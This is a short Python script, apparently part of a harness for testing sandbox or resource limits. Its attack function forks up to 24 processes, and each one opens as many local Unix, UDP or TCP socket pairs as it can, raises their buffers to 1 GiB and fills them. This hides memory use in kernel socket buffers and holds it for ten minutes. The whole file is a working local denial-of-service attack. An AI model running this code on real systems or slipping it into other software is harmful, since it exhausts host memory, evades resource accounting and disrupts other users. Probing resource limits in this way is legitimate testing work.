"""Hides memory in the buffers of sockets."""

import contextlib
import os
import socket
import sys
import time

from probe import say
from raw import once, play

PROCESSES = 24


def unix():
    yield from socket.socketpair()


def udp():
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.bind(("127.0.0.1", 0))
    line.connect(line.getsockname())
    yield line


def tcp():
    with socket.create_server(("127.0.0.1", 0)) as door:
        one = socket.create_connection(door.getsockname())
        two, _ = door.accept()
    yield from (one, two)


def fill(make):
    """As many sockets as one process may have, each filled to the brim."""
    kept = []
    with contextlib.suppress(OSError):
        while True:
            for end in make():
                kept.append(end)
                for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
                    end.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    for _ in range(1000):
                        end.send(bytes(1 << 15))
    time.sleep(600)


def attack():
    made = 0
    with contextlib.suppress(OSError):
        for _ in range(PROCESSES):
            if os.fork() == 0:
                fill({"unix": unix, "udp": udp, "tcp": tcp}[sys.argv[1]])
            made += 1
    say(f"{made} processes fill sockets")
    time.sleep(5)


play(turn=once(attack))
